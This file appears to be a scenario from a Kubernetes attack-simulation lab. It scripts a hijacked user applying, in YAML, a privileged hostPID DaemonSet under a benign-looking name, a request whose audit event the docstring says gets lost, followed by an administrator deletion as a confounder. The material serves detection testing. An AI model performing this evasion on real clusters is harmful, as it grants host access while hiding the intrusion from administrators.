"""A privileged set is applied in YAML: up to 1.36 the event of such a request is lost where bodies are logged."""

import yaml

from lab.client import APPLY
from lab.manifests import workload
from lab.story import Scenario, Stage


def _play(stage: Stage) -> None:
    thief = stage.hijack("frank")
    name = stage.word("sysctl-tuner", "gpu-driver")
    body = workload("DaemonSet", name, "registry.example.net/tools/tuner:1", hostPID=True)
    body["spec"]["template"]["spec"]["containers"][0]["securityContext"] = {"privileged": True}
    path = f"/apis/apps/v1/namespaces/monitoring/daemonsets/{name}"
    with stage.step("apply in YAML", thief, "defense-evasion", ("N15", "G02", "D01", "D07", "N11")):
        text = yaml.safe_dump(body).encode()
        stage.must(thief.send("PATCH", f"{path}?fieldManager=kubectl", text, {"Content-Type": APPLY}))
    stage.pause()
    with stage.step("the administrator removes it", "kubernetes-admin", kind="confounder"):
        stage.admin().delete(f"{path}?propagationPolicy=Background")


SCENARIO = Scenario(
    "yaml-apply",
    "An apply in YAML that the log loses",
    "attack",
    "leave no event",
    ("T1562", "T1610"),
    _play,
)
